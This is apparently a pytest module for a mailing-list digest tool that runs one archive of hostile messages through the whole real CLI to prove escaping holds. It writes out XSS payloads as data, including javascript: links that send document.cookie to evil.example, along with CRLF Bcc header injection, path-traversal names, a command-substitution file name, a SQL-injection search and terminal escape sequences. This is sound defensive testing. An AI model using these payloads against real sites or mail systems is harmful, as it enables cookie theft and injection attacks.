"""The hostile-input sweep (issue 9): one hostile archive through the whole real pipeline.

A list member controls subjects, display names, bodies, signatures, forwarded
messages, Message-IDs and attachment names; an operator's shell may pass odd list
names and file names. Each piece of escaping is unit-tested elsewhere
(``test_render``, ``test_render_chromium``, ``test_delivery``, ``test_digest``,
``test_sources``, ``test_store``, ``test_cli``, ``test_jobs``); this module proves
the pieces hold *together*: one mbox written here, full of payloads, goes through
the real CLI (``python -m analyzer`` subprocesses, ``-vv``): ``ingest`` under a
hostile ``--list`` and under a list name derived from a hostile file name,
``analyze`` with spaCy, ``digest`` in every format, ``send`` to the outbox and to
a real aiosmtpd server on 127.0.0.1 that requires a password given through the
environment variable the config names. The run happens once per module and the
tests below each check one property of what it left behind.

The payloads announce themselves if they ever run: every script sets the document
title (and a global, an attribute, a console line) to ``XSS`` + ``RAN``, a word that
appears nowhere in the input, so finding it proves execution, not echoing.
"""

from __future__ import annotations

import email
import email.policy
import json
import os
import re
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import AuthResult
from click.testing import CliRunner
from test_delivery import free_port

from analyzer.cli import cli
from analyzer.store import Store

WEEK = "2025-W46"  # Monday 10 – Sunday 16 November 2025: every message below
PASSWORD = "hostile-SECRET-pw-5521"
WRONG_PASSWORD = "wrong-SECRET-pw-0042"
PASSWORD_ENV = "HOSTILE_TEST_SMTP_PW"
LIST_FLAG = "../../evil"
CRLF_LIST = "evil\r\nBcc: victim@example.org"
HOSTILE_FILE = 'evil"><img src=x onerror=alert(1)>$(touch pwned)\\..\\..\\x\n.mbox'
OUTBOX_TO = ["staff@example.org", '"Eve \\"><script>x</script>" <eve@example.org>']
SMTP_TO = ["board@example.org", "Mallory <mallory@example.org>"]

RAN = "XSS" + "RAN"  # what a payload produces if it runs; the input never spells it
SET = "document.title='XSS'+'RAN'"
SCRIPT = (f"<script>{SET};window.xssProbe=1;"
          "document.documentElement.setAttribute('data-pwned','1');"
          "console.log('XSS'+'RAN')</script>")
IMG = f"<img src=x onerror=\"{SET};console.log('XSS'+'RAN')\">"
SVG = f"\"><svg onload=\"{SET}\">"
JS_LINK = f"[details](javascript:{SET})"
A_JS = "<a href=\"javascript:location='https://evil.example/'+document.cookie\">open</a>"
LOCATION = "<script>location='https://evil.example/steal?'+document.cookie</script>"
BCC = "\r\nBcc: victim@example.org"
RLO = "\u202e"  # right-to-left override
ESC = "\x1b]0;terminal-title\x07\x1b[2J\x1b[31m"  # terminal title, clear screen, red
FTS = 'NEAR(visa mission) "unbalanced col:value AND OR NOT *'


# -- the archive ---------------------------------------------------------------------------


def _b64_word(text: str) -> str:
    """An RFC 2047 encoded word: how a CR/LF can hide in a header until it is decoded."""
    import base64

    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


def _message(envelope_date: str, headers: list[tuple[str, str]], body: str) -> bytes:
    head = "".join(f"{name}: {value}\n" for name, value in headers)
    body = body.rstrip("\n") + "\n\n"  # mbox: a blank line before the next From_ line
    return f"From mallory@evil.example {envelope_date}\n{head}\n{body}".encode()


def hostile_archive() -> bytes:
    """Eight messages of 2025-W46, each carrying a different kind of payload."""
    root_id = "<\"><script>alert(1)</script>@evil.example>"
    messages = [
        _message("Mon Nov 10 09:00:00 2025", [
            ("From", f'"Mallory {SCRIPT}" <mallory@evil.example>'),
            ("To", "chapter-leaders@lists.example"),
            ("Subject", f"[chapter-leaders] {SCRIPT} Visa meeting with the Minister {SVG}"),
            ("Message-ID", root_id),
            ("Date", "Mon, 10 Nov 2025 09:00:00 +0000"),
            ("Content-Type", "text/plain; charset=utf-8"),
        ], f"""Dear all,

This morning we met Minister {SCRIPT} of Foreign Affairs at the ministry.
We also met the Minister of Communications, Ms. Ada Okafor {IMG}, in Abuja.
The consultation {SCRIPT} will take place on 2 December 2025 in Geneva {SVG}.
Please send your statement {JS_LINK} by 5 December 2025.

--
Mallory {IMG}
Chair, ISOC Evil Chapter {SVG}
"""),
        _message("Tue Nov 11 10:00:00 2025", [
            ("From", f"{_b64_word('Trudy' + BCC)} <trudy@evil.example>"),
            ("Subject", _b64_word(f"Re: Visa meeting{BCC}")),
            ("Message-ID", "<reply-crlf@evil.example>"),
            ("In-Reply-To", root_id),
            ("References", root_id),
            ("Date", "Tue, 11 Nov 2025 10:00:00 +0000"),
            ("Content-Type", "text/plain; charset=utf-8"),
        ], f"""Thanks. We wrote to the Ministry of Foreign Affairs {LOCATION} again.
Mallory {RLO}gnp.exe says the mission {A_JS} agreed to help with the visas.
Nul\x00bytes\x00here and a bell \x07 and a form feed \x0c too.

On Mon, 10 Nov 2025, Mallory wrote:
> This morning we met Minister {SCRIPT} of Foreign Affairs at the ministry.
"""),
        _message("Wed Nov 12 11:00:00 2025", [
            ("From", f"\"Eve {RLO}fdp.exe {IMG}\" <eve@evil.example>"),
            ("Subject", f"Fwd: High-Level Meeting {IMG} {RLO}txt.exe"),
            ("Message-ID", "<forward@evil.example>"),
            ("Date", "Wed, 12 Nov 2025 11:00:00 +0000"),
            ("Content-Type", "text/plain; charset=utf-8"),
        ], f"""Forwarding the invitation from the ministry {SVG}.

---------- Forwarded message ---------
From: Minister {SCRIPT} <minister@gov.example>
Date: Tue, 11 Nov 2025 at 08:00
Subject: Invitation {IMG}
To: Eve <eve@evil.example>

Dear colleagues,
The High-Level Meeting {SCRIPT} will be held on 16 and 17 December 2025 in New York.
Ambassador Juan {IMG} Perez, Permanent Representative of Mexico, will chair it.
"""),
        _message("Thu Nov 13 12:00:00 2025", [
            ("From", "\"# Heading | pipe | [x](javascript:alert(1))\" <md@evil.example>"),
            ("Subject", "**bold** _it_ `code` <b>tag</b> ![img](http://evil.example/x.png) "
                        "{{ 7*7 }} {% raw %}"),
            ("Message-ID", "<markdown@evil.example>"),
            ("Date", "Thu, 13 Nov 2025 12:00:00 +0000"),
            ("Content-Type", "text/plain; charset=utf-8"),
        ], f"""# Not a heading
| not | a | table |
<!-- not a comment --> </style></textarea></title>{SCRIPT}
```
not code
```
1. not a list {JS_LINK} ![x](javascript:alert(1)) <iframe src="javascript:alert(1)"></iframe>
The ministry agreed to fund the workshop on 20 November 2025 {A_JS}.
"""),
        _message("Fri Nov 14 13:00:00 2025", [
            ("From", "Path Walker <paths@evil.example>"),
            ("Subject", f"../../../etc/passwd {FTS}"),
            ("Message-ID", "<../../../evil@evil.example>"),
            ("Date", "Fri, 14 Nov 2025 13:00:00 +0000"),
            ("MIME-Version", "1.0"),
            ("Content-Type", 'multipart/mixed; boundary="BOUNDARY"'),
        ], f"""--BOUNDARY
Content-Type: text/plain; charset=utf-8

The visa mission met the minister again; search for {FTS} here.
See ../../../etc/passwd and ..\\..\\windows\\system32.

-------------- next part --------------
A non-text attachment was scrubbed...
Name: ../../../evil.sh
URL: <http://lists.example/pipermail/chapter-leaders/attachments/20251114/../../../../evil.sh/attachment.bin>

--BOUNDARY
Content-Type: application/x-sh; name="../../../evil.sh"
Content-Disposition: attachment; filename="../../../evil.sh"
Content-Transfer-Encoding: base64

IyEvYmluL3NoCnRvdWNoIC90bXAvcHduZWQK
--BOUNDARY--
"""),
        _message("Sat Nov 15 14:00:00 2025", [
            ("From", f"HTML Only {SVG} <html@evil.example>"),
            ("Subject", "Re: Visa meeting with the Minister"),
            ("Message-ID", "<html-only@evil.example>"),
            ("In-Reply-To", root_id),
            ("Date", "Sat, 15 Nov 2025 14:00:00 +0000"),
            ("Content-Type", "text/html; charset=utf-8"),
        ], f"""<html><body><p>The ministry {IMG} replied.</p>{SCRIPT}
<p><a href="javascript:alert(1)">click</a> We will meet the minister on 3 December 2025.</p>
</body></html>"""),
        _message("Sun Nov 16 15:00:00 2025", [
            ("From", f"Nul\x00Name {SCRIPT} <nul@evil.example>"),
            ("Subject", f"Nul\x00subject {RLO}{IMG} {ESC}"),
            ("Message-ID", f"<{SCRIPT}@evil.example>"),
            ("Date", "Sun, 16 Nov 2025 15:00:00 +0000"),
            ("Content-Type", "text/plain; charset=utf-8"),
        ], f"The deadline to send the statement is 28 November 2025. {ESC}\n"),
    ]
    return b"".join(messages)


def crlf_list_archive() -> bytes:
    return _message("Mon Nov 10 08:00:00 2025", [
        ("From", "Ann <ann@example.org>"), ("Subject", "A quiet note"),
        ("Message-ID", "<quiet@example.org>"), ("Date", "Mon, 10 Nov 2025 08:00:00 +0000"),
    ], "We met the ministry today.\n")


# -- the run ------------------------------------------------------------------------------


@dataclass
class Recorder:
    """aiosmtpd handler and authenticator that also inspect the client process.

    At the moment the client logs in, it holds the password: the authenticator then
    reads ``/proc/PID/cmdline`` of the CLI process (and its children) and its
    environment, so "never in argv" is checked while the secret is in use.
    """

    pid: int = 0
    messages: list[tuple[list[str], bytes]] = field(default_factory=list)
    logins: list[dict] = field(default_factory=list)

    async def handle_DATA(self, server, session, envelope):
        self.messages.append((list(envelope.rcpt_tos), envelope.original_content))
        return "250 OK"

    def authenticate(self, server, session, envelope, mechanism, auth_data):
        environ = _read(f"/proc/{self.pid}/environ")
        self.logins.append({"cmdlines": process_cmdlines(self.pid),
                            "env_has_password": any(f"{PASSWORD_ENV}={secret}".encode()
                                                    in environ
                                                    for secret in (PASSWORD, WRONG_PASSWORD))})
        return AuthResult(success=auth_data.password == PASSWORD.encode())


def _read(path: str) -> bytes:
    try:
        return Path(path).read_bytes()
    except OSError:
        return b""


def process_cmdlines(pid: int) -> list[bytes]:
    """argv (NUL-separated, as the kernel shows it) of ``pid`` and all its descendants."""
    found, todo = [], [pid]
    while todo:
        current = todo.pop()
        cmdline = _read(f"/proc/{current}/cmdline")
        if not cmdline:
            continue
        found.append(cmdline)
        for children in Path(f"/proc/{current}/task").glob("*/children"):
            todo += [int(child) for child in _read(str(children)).split()]
    return found


@dataclass
class Pipeline:
    srv: Path
    store: Path
    reports: Path
    outbox: Path
    mirror: Path
    cwd: Path
    created: set[Path]
    derived_list: str
    runs: dict[str, subprocess.CompletedProcess]
    cmdlines: list[bytes]
    smtp: Recorder


def _config(srv: Path, *, smtp_port: int) -> str:
    def q(value) -> str:
        return json.dumps(str(value))  # a TOML basic string

    return f"""
[store]
path = {q(srv / 'store' / 'analyzer.sqlite')}
[fetch]
mirror = {q(srv / 'mirror')}
[smtp]
host = {q('127.0.0.1' if smtp_port else '')}
port = {smtp_port or 25}
security = "none"
username = "digest"
password_env = {q(PASSWORD_ENV)}
sender = "Digest <digest@example.org>"
retries = 1
timeout = 10
[output]
reports = {q(srv / 'reports')}
outbox = {q(srv / 'outbox')}
[[lists]]
name = {q(LIST_FLAG)}
recipients = {json.dumps(OUTBOX_TO)}
"""


def _files(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file() or p.is_symlink()}


@pytest.fixture(scope="module")
def pipeline(tmp_path_factory) -> Pipeline:
    root = tmp_path_factory.mktemp("hostile")
    srv = root / "srv" / "analyzer"  # deep enough that a ../../ escape still lands in root
    inputs, cwd = srv / "in", srv / "cwd"
    inputs.mkdir(parents=True)
    cwd.mkdir()
    (inputs / "hostile.mbox").write_bytes(hostile_archive())
    (inputs / HOSTILE_FILE).write_bytes(hostile_archive())
    (inputs / "quiet.mbox").write_bytes(crlf_list_archive())
    recorder = Recorder()
    controller = Controller(recorder, hostname="127.0.0.1", port=free_port(),
                            authenticator=recorder.authenticate, auth_require_tls=False)
    controller.start()
    outbox_config, smtp_config = srv / "outbox.toml", srv / "smtp.toml"
    outbox_config.write_text(_config(srv, smtp_port=0), encoding="utf-8")
    smtp_config.write_text(_config(srv, smtp_port=controller.port), encoding="utf-8")
    before = _files(root)
    runs: dict[str, subprocess.CompletedProcess] = {}
    cmdlines: list[bytes] = []

    def cli_run(name: str, config: Path, *args: str, password: str = PASSWORD) -> None:
        env = {k: v for k, v in os.environ.items() if not k.startswith("ANALYZER_")}
        env[PASSWORD_ENV] = password
        argv = [sys.executable, "-m", "analyzer", "-vv", "--config", str(config), *args]
        proc = subprocess.Popen(argv, cwd=cwd, env=env, stdin=subprocess.DEVNULL,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        recorder.pid = proc.pid
        out: dict[str, str] = {}
        reader = threading.Thread(target=lambda: out.update(zip(
            ("stdout", "stderr"), proc.communicate(timeout=300), strict=True)))
        reader.start()
        while reader.is_alive():  # sample argv of the process tree for the whole run
            cmdlines.extend(process_cmdlines(proc.pid))
            time.sleep(0.02)
        reader.join()
        runs[name] = subprocess.CompletedProcess(argv, proc.returncode, out["stdout"],
                                                 out["stderr"])

    try:
        cli_run("ingest-flag", outbox_config, "ingest", str(inputs / "hostile.mbox"),
                "--list", LIST_FLAG)
        cli_run("ingest-file", outbox_config, "ingest", str(inputs / HOSTILE_FILE))
        cli_run("ingest-crlf", outbox_config, "ingest", str(inputs / "quiet.mbox"),
                "--list", CRLF_LIST)
        cli_run("analyze", outbox_config, "analyze")
        with Store(srv / "store" / "analyzer.sqlite") as store:
            derived = next(n for n in store.lists() if n not in (LIST_FLAG, CRLF_LIST))
        formats = "md,html,txt,json,ics"
        cli_run("digest-flag", outbox_config, "digest", "--list", LIST_FLAG, "--week", WEEK,
                "--format", formats)
        cli_run("digest-file", outbox_config, "digest", "--list", derived, "--week", WEEK,
                "--format", formats, "--out", str(srv / "reports" / "by-out"))
        cli_run("send-outbox", outbox_config, "send", "--list", LIST_FLAG, "--week", WEEK)
        cli_run("send-smtp", smtp_config, "send", "--list", derived, "--week", WEEK,
                *[arg for to in SMTP_TO for arg in ("--to", to)])
        cli_run("send-crlf-list", smtp_config, "send", "--list", CRLF_LIST, "--week", WEEK,
                "--to", "staff@example.org")
        cli_run("send-wrong-password", smtp_config, "send", "--list", derived, "--week", WEEK,
                "--to", "late@example.org", password=WRONG_PASSWORD)
    finally:
        controller.stop()
    yield Pipeline(srv=srv, store=srv / "store" / "analyzer.sqlite", reports=srv / "reports",
                   outbox=srv / "outbox", mirror=srv / "mirror", cwd=cwd,
                   created=_files(root) - before, derived_list=derived, runs=runs,
                   cmdlines=cmdlines, smtp=recorder)


# -- (a) HTML in a real browser ---------------------------------------------------------------

CONSOLE = re.compile(r":CONSOLE[:(\]]|Uncaught", re.I)
# Added to a copy of each page: after load, it records what a payload would have changed
# (title, a global, the location, scripts, a marker attribute) where --dump-dom shows it.
PROBE = """<script id="hostile-test-probe">
addEventListener('load', function () {
  document.documentElement.setAttribute('data-probe', JSON.stringify({
    title: document.title, global: typeof window.xssProbe, href: location.href,
    scripts: document.scripts.length,
    pwned: document.querySelectorAll('[data-pwned]').length}));
});
</script>"""


def _probed(html: str, page: Path) -> Path:
    """A copy of ``html`` with the probe as the last thing in its body."""
    at = html.lower().rfind("</body>")
    page.write_text(html[:at] + PROBE + html[at:] if at >= 0 else html + PROBE,
                    encoding="utf-8")
    return page


def _load_all(chromium: str, work: Path, pages: list[Path]) -> list[tuple[object, str]]:
    """Each page in its own headless Chromium (three at a time): (DOM, console stderr)."""
    from concurrent.futures import ThreadPoolExecutor

    from bs4 import BeautifulSoup

    def load(numbered: tuple[int, Path]):
        number, page = numbered
        cmd = [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
               "--no-first-run", "--disable-background-networking",
               "--disable-component-update", "--disable-sync",
               f"--user-data-dir={work / f'profile-{number}'}", "--enable-logging=stderr",
               "--v=0", "--dump-dom", page.resolve().as_uri()]
        result = subprocess.run(cmd, capture_output=True, text=True, timeout=120,
                                stdin=subprocess.DEVNULL, check=False)
        assert result.returncode == 0, result.stderr[-2000:]
        return BeautifulSoup(result.stdout, "html.parser"), result.stderr

    with ThreadPoolExecutor(3) as pool:
        return list(pool.map(load, enumerate(pages)))


def _email_page(raw: bytes, folder: Path) -> tuple[str, Path]:
    """The HTML part of a digest email, its ``cid:`` charts saved beside it, probed."""
    message = email.message_from_bytes(raw, policy=email.policy.default)
    html = message.get_body(("html",)).get_content()
    folder.mkdir(parents=True)
    images = [p for p in message.walk() if p.get_content_type() == "image/png"]
    assert images, "the digest email carries its charts"
    for number, part in enumerate(images):
        (folder / f"cid{number}.png").write_bytes(part.get_content())
        html = html.replace(f"cid:{part['Content-ID'].strip('<>')}", f"cid{number}.png")
    assert "cid:" not in html, "every cid: reference names an attached image"
    return html, _probed(html, folder / "email.html")


def _assert_nothing_ran(dom, stderr: str, page: Path, static_html: str) -> None:
    from bs4 import BeautifulSoup

    assert [line for line in stderr.splitlines() if CONSOLE.search(line)] == [], page
    probe = json.loads(dom.html["data-probe"])  # the probe ran: JavaScript was on
    static_title = BeautifulSoup(static_html, "html.parser").title
    assert probe == {
        "title": " ".join(static_title.get_text().split()) if static_title else "",
        "global": "undefined", "href": page.resolve().as_uri(), "scripts": 1, "pwned": 0,
    }, page
    assert RAN not in str(dom), page
    assert [s.get("id") for s in dom.find_all("script")] == ["hostile-test-probe"]
    assert not dom.find_all(["iframe", "svg", "object", "embed", "form", "base"]), page
    assert not [tag.name for tag in dom.find_all(True)
                if any(attr.lower().startswith("on") for attr in tag.attrs)], page
    assert all(a["href"].startswith(("https://", "http://"))
               for a in dom.find_all("a", href=True)), page
    # our charts only: inline (file), attached (email) or beside the Markdown
    assert all(re.match(r"data:image/png;base64,|cid\d+\.png$|charts/[a-z]+\.png$", img["src"])
               for img in dom.find_all("img")), page


def test_no_payload_runs_in_the_digest_html_the_markdown_or_the_emails_in_chromium(
    pipeline, chromium, tmp_path
):
    import markdown_it

    pages, sources = [], []
    for folder in (pipeline.reports / "evil" / WEEK, pipeline.reports / "by-out"):
        html = (folder / "digest.html").read_text(encoding="utf-8")
        sources.append(html)
        pages.append(_probed(html, tmp_path / f"{folder.name}-digest.html"))
        # The Markdown as a CommonMark renderer with raw HTML enabled would show it.
        body = markdown_it.MarkdownIt("commonmark").enable("table").render(
            (folder / "digest.md").read_text(encoding="utf-8"))
        html = f"<!DOCTYPE html><html><head><title>md</title></head><body>{body}</body></html>"
        sources.append(html)
        pages.append(_probed(html, tmp_path / f"{folder.name}-md.html"))
    mails = [p.read_bytes() for p in sorted(pipeline.outbox.glob("*.eml"))]
    mails += [raw for _, raw in pipeline.smtp.messages]
    assert len(mails) == 4
    for number, raw in enumerate(mails):
        html, page = _email_page(raw, tmp_path / f"mail-{number}")
        sources.append(html)
        pages.append(page)
    # Control: the same payloads, unescaped, are caught by the probe.
    control = _probed(f"<!DOCTYPE html><html><head><title>c</title></head><body>{SCRIPT}"
                      f"{IMG}</body></html>", tmp_path / "control.html")
    loaded = _load_all(chromium, tmp_path, [*pages, control])
    for page, html, (dom, stderr) in zip(pages, sources, loaded[:-1], strict=True):
        _assert_nothing_ran(dom, stderr, page, html)
        assert "<script>document.title=" in dom.body.get_text(), "the payload reached the page"
    dom, stderr = loaded[-1]
    caught = json.loads(dom.html["data-probe"])
    assert caught["title"] == RAN and caught["global"] == "number" and caught["pwned"] == 1
    assert RAN in stderr


# -- the run itself -------------------------------------------------------------------------


def test_every_hostile_message_is_stored_under_the_list_names_given_or_made_safe(pipeline):
    for name in ("ingest-flag", "ingest-file", "analyze", "digest-flag",
                 "digest-file", "send-outbox", "send-smtp"):
        assert pipeline.runs[name].returncode == 0, pipeline.runs[name].stderr[-3000:]
    with Store(pipeline.store) as store:
        counts = dict(store.query("SELECT list, count(*) FROM messages GROUP BY list"))
        quarantined = store.query("SELECT count(*) FROM quarantine").fetchone()[0]
        nlp = store.query("SELECT count(*) FROM nlp_runs").fetchone()[0]
    # --list is the operator's own word and is kept; a name taken from a file is made safe
    assert counts == {LIST_FLAG: 7, "evil-img-src-x-onerror-alert-1-touch-pwned": 7}
    assert pipeline.derived_list == "evil-img-src-x-onerror-alert-1-touch-pwned"
    assert quarantined == 0 and nlp >= 14
    json_digest = json.loads((pipeline.reports / "evil" / WEEK / "digest.json").read_bytes())
    assert json_digest["figures"]["messages"]["value"] == 7
    assert json_digest["events"], "dated events reached the digest and its calendar"


def test_a_line_break_in_a_list_name_is_refused_before_anything_is_stored_or_sent(pipeline):
    for name in ("ingest-crlf", "send-crlf-list"):
        result = pipeline.runs[name]
        assert result.returncode == 2
        assert "a list name is 1-200 printable characters" in result.stderr
        assert "Traceback" not in result.stderr
    assert all("quiet" not in raw.decode("latin-1") for _, raw in pipeline.smtp.messages)
    with Store(pipeline.store) as store:
        assert store.already_sent(CRLF_LIST, WEEK) == set()


# -- (b) generated headers ------------------------------------------------------------------

TOP_HEADERS = {"Content-Type", "MIME-Version", "From", "To", "Reply-To", "Subject", "Date",
               "Message-ID", "List-Id", "Auto-Submitted"}
PART_HEADERS = {"Content-Type", "MIME-Version", "Content-Transfer-Encoding", "Content-ID",
                "Content-Disposition"}


def _header_names(block: bytes) -> list[str]:
    return [line.split(b":", 1)[0].decode("ascii") for line in block.split(b"\r\n")
            if line and line[:1] not in (b" ", b"\t")]


def _assert_clean_headers(raw: bytes, recipient: str, list_name: str) -> None:
    head = raw.split(b"\r\n\r\n", 1)[0]
    assert b"\n" not in head.replace(b"\r\n", b"") and b"\r" not in head.replace(b"\r\n", b"")
    names = _header_names(head)
    assert sorted(names) == sorted(TOP_HEADERS), names  # each once, no Bcc, no Cc
    message = email.message_from_bytes(raw, policy=email.policy.default)
    for name in names:
        assert not re.search(r"[\r\n\x00]", str(message[name])), (name, message[name])
    to = email.utils.getaddresses([str(message["To"])])
    assert [address for _, address in to] == [email.utils.parseaddr(recipient)[1]]
    assert re.fullmatch(rf"\[{re.escape(list_name)}\] Weekly digest {WEEK}: "
                        r"\d+ messages?, \d+ threads?", message["Subject"])
    assert message["From"] == "Digest <digest@example.org>"
    assert message["List-Id"] == f"<{list_name}.digest.analyzer>"
    for part in list(message.walk())[1:]:
        assert set(part.keys()) <= PART_HEADERS, part.keys()
        filename = part.get_filename()
        assert filename is None or re.fullmatch(r"[a-z]+\.png|events\.ics", filename)


def test_outbox_and_smtp_headers_carry_no_injected_lines_or_recipients(pipeline):
    outbox = sorted(pipeline.outbox.glob("*.eml"))
    assert len(outbox) == len(OUTBOX_TO)
    for path in outbox:
        raw = path.read_bytes()
        to = email.message_from_bytes(raw, policy=email.policy.default)["To"]
        recipient = next(r for r in OUTBOX_TO
                         if email.utils.parseaddr(r)[1] == to.addresses[0].addr_spec)
        _assert_clean_headers(raw, recipient, LIST_FLAG)
    received = pipeline.smtp.messages
    assert sorted(rcpts[0] for rcpts, _ in received) == sorted(
        email.utils.parseaddr(r)[1] for r in SMTP_TO)
    for rcpts, raw in received:
        assert len(rcpts) == 1  # the envelope: nobody added
        recipient = next(r for r in SMTP_TO if email.utils.parseaddr(r)[1] == rcpts[0])
        _assert_clean_headers(raw, recipient, pipeline.derived_list)


def test_the_calendar_holds_only_calendar_properties_whatever_the_event_titles_say(pipeline):
    allowed = {"BEGIN", "END", "VERSION", "PRODID", "CALSCALE", "METHOD", "X-WR-CALNAME",
               "UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION", "TRANSP",
               "URL", "LOCATION"}
    for folder in (pipeline.reports / "evil" / WEEK, pipeline.reports / "by-out"):
        raw = (folder / "events.ics").read_bytes()
        assert b"\n" not in raw.replace(b"\r\n", b"") and b"\r" not in raw.replace(b"\r\n", b"")
        lines = raw.decode("utf-8").replace("\r\n ", "").split("\r\n")[:-1]
        names = [re.split(r"[:;]", line, maxsplit=1)[0] for line in lines]
        assert set(names) <= allowed, set(names) - allowed
        assert [line for line in lines if line.startswith("BEGIN:")].count(
            "BEGIN:VEVENT") == names.count("UID")
        assert "<script>document.title=" in raw.decode("utf-8").replace("\r\n ", "")


# -- (c) where files land -------------------------------------------------------------------


def test_every_file_the_run_created_is_inside_a_configured_output_folder(pipeline):
    allowed = [pipeline.reports, pipeline.outbox, pipeline.store.parent, pipeline.mirror]
    assert pipeline.created, "the run wrote files"
    outside = [p for p in pipeline.created
               if not any(p.resolve().is_relative_to(root.resolve()) for root in allowed)]
    assert outside == []
    assert list(pipeline.cwd.iterdir()) == []  # nothing relative to the working directory
    for path in pipeline.created:  # no name in them came from content unsanitised
        relative = path.relative_to(pipeline.srv)
        assert all(re.fullmatch(r"[A-Za-z0-9._@+-]+", part) for part in relative.parts), path
    root = pipeline.srv.parent.parent  # the module's own temporary folder
    inside = [pipeline.srv / "in", *allowed]
    assert not [p for p in [*root.parent.iterdir(), *root.rglob("*")]
                if p.name.startswith(("evil", "pwned"))
                and not any(p.is_relative_to(folder) for folder in inside)]


def test_attachments_are_never_written_and_their_names_never_become_paths(pipeline):
    names = {p.name for p in pipeline.created}
    assert not any(name.endswith(".sh") or name.startswith("attachment") for name in names)
    with Store(pipeline.store) as store:
        body = store.query("SELECT body FROM messages WHERE message_id = ? AND list = ?",
                           ("../../../evil@evil.example", LIST_FLAG)).fetchone()[0]
    assert "touch /tmp/pwned" not in body  # the attachment's content was not inlined
    assert "search for" in body


# -- (d) search -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def search(pipeline):
    def run(*args: str):
        return CliRunner(env={"ANALYZER_CONFIG": ""}).invoke(
            cli, ["--store", str(pipeline.store), "search", *args], catch_exceptions=False)

    return run


@pytest.mark.parametrize("query", ['"unbalanced', "AND OR", "NEAR(", "*", "col:"])
def test_a_search_syntax_error_is_a_one_line_user_error(search, query):
    result = search(query)
    assert result.exit_code == 1
    assert result.output.startswith(f"error: cannot search for {query!r}")
    assert "Put phrases in double quotes" in result.output
    assert "Traceback" not in result.output and len(result.output.splitlines()) == 1


@pytest.mark.parametrize(("query", "finds"), [
    ('"<script>document.title"', True),
    ('"../../../etc/passwd"', True),
    ('"NEAR(visa mission)" AND minister', True),
    ("\"x'); DROP TABLE messages; --\"", False),
    ('"col:value"', True),
])
def test_hostile_but_valid_searches_work_and_print_no_control_characters(
    search, pipeline, query, finds
):
    result = search(query, "--list", LIST_FLAG)
    assert result.exit_code == 0, result.output
    assert ("no matches" not in result.output) == finds
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", result.output), repr(result.output)
    with Store(pipeline.store) as store:
        assert store.counts()["messages"] == 14


# -- (e) the SMTP password ------------------------------------------------------------------


def test_the_smtp_password_is_in_no_output_file_mail_or_error(pipeline):
    assert pipeline.runs["send-wrong-password"].returncode == 1
    assert "authentication failed" in pipeline.runs["send-wrong-password"].stderr
    assert any("INFO " in run.stderr for run in pipeline.runs.values())  # -vv really logged
    for secret in (PASSWORD, WRONG_PASSWORD):
        for name, run in pipeline.runs.items():
            assert secret not in run.stdout + run.stderr, name
        for path in pipeline.srv.rglob("*"):
            if path.is_file():
                assert secret.encode() not in path.read_bytes(), path
        assert all(secret.encode() not in raw for _, raw in pipeline.smtp.messages)


def test_the_password_travels_by_environment_never_in_any_process_argv(pipeline):
    logins = pipeline.smtp.logins
    assert len(logins) == len(SMTP_TO) + 1  # two deliveries and the refused login
    for login in logins:
        assert login["env_has_password"]  # the variable the config names, read at login
        assert login["cmdlines"] and b"analyzer" in login["cmdlines"][0]
        assert not [c for c in login["cmdlines"]
                    if PASSWORD.encode() in c or WRONG_PASSWORD.encode() in c]
    assert len(pipeline.cmdlines) > 50  # sampled throughout every run
    for secret in (PASSWORD, WRONG_PASSWORD):
        assert not [c for c in pipeline.cmdlines if secret.encode() in c]


# -- the terminal ---------------------------------------------------------------------------

UNSAFE_FOR_TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def test_terminal_commands_print_escape_sequences_and_bidi_overrides_visibly(pipeline):
    def run(*args: str) -> str:
        result = CliRunner(env={"ANALYZER_CONFIG": ""}).invoke(
            cli, ["--store", str(pipeline.store), *args], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        return result.output

    outputs = {
        "search": run("search", "deadline", "--list", LIST_FLAG),
        "threads": run("threads", "-n", "50"),
        "stats": run("stats"),
        "officials": run("officials"),
        "show": run("show", "reply-crlf@evil.example", "--list", LIST_FLAG),
    }
    for name, output in outputs.items():
        assert not UNSAFE_FOR_TERMINAL.search(output), (name, output)
    assert "\\x1b]0;terminal-title\\x07\\x1b[2J" in outputs["search"]
    assert "\\u202etxt.exe" in outputs["threads"]
    assert "a bell \\x07 and a form feed \\x0c too" in outputs["show"]
